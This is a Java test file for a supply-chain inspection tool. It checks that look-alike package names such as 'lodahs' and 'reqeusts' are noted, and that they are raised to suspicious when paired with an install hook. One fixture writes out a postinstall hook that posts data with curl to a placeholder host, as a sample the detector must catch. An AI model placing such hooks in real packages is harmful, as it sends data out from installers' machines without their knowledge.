package cordon.inspect.corpus;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.Finding;
import cordon.inspect.Report;
import cordon.inspect.Verdict;
import cordon.inspect.delta.Baseline;
import cordon.inspect.testing.Artifact;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Names that look like others raise, and never convict. */
class LikenessTest {

  private static Artifact npm(String name, String version, String members) {
    return Artifact.npm(name, version)
        .file(
            "package.json",
            "{\"name\":\"%s\",\"version\":\"%s\"%s}".formatted(name, version, members))
        .file("index.js", "module.exports = 1;\n");
  }

  private static Report inspect(Artifact artifact) {
    return new Sample("", artifact).inspect();
  }

  private static List<String> rules(Report report) {
    return report.findings().stream().map(Finding::rule).toList();
  }

  @Test
  void aNameAloneIsANote() {
    Report report = inspect(npm("lodahs", "1.0.0", ""));
    assertThat(report.verdict()).isEqualTo(Verdict.CLEAN);
    assertThat(rules(report)).contains("looks-like-another");
    assertThat(report.findings().getFirst().steps().getLast().quote()).contains("lodash");
  }

  @Test
  void withAHookThatReachesForMoreItIsSuspicious() {
    String hook = ",\"scripts\":{\"postinstall\":\"curl -d a=1 https://files.example/in\"}";
    Report like = inspect(npm("lodahs", "1.0.0", hook));
    assertThat(rules(like)).contains("look-alike-acts-at-install");
    assertThat(like.verdict()).isEqualTo(Verdict.SUSPICIOUS);
    assertThat(rules(inspect(npm("plain-helper", "1.0.0", hook))))
        .doesNotContain("look-alike-acts-at-install");
  }

  @Test
  void aHookThatOnlyBuildsChangesNothing() {
    String hook = ",\"scripts\":{\"install\":\"node-gyp rebuild\"}";
    assertThat(inspect(npm("lodahs", "1.0.0", hook)).verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void aNewDependencyThatLooksLikeAnotherIsSuspicious() {
    Report before = inspect(npm("plain-helper", "1.0.0", ""));
    Artifact after = npm("plain-helper", "1.0.1", ",\"dependencies\":{\"axois\":\"^1.0.0\"}");
    Baseline baseline = new Baseline(List.of(before.profile()));
    Report report = new Sample("", after).inspect(baseline);
    assertThat(rules(report)).contains("new-dependency-looks-like-another");
    assertThat(report.verdict()).isEqualTo(Verdict.SUSPICIOUS);
    assertThat(inspect(after).verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void theSourceOfAnotherIsANote() {
    String members = ",\"repository\":\"https://github.com/7rulnik/source-map-js\"";
    Report report = inspect(npm("plain-helper", "1.0.0", members));
    assertThat(report.verdict()).isEqualTo(Verdict.CLEAN);
    assertThat(rules(report)).contains("claims-the-source-of-another");
  }

  @Test
  void metadataOfPythonAreReadAsWell() {
    Report report =
        inspect(Artifact.wheel("reqeusts", "1.0").file("reqeusts/__init__.py", "A = 1\n"));
    assertThat(rules(report)).contains("looks-like-another");
  }
}
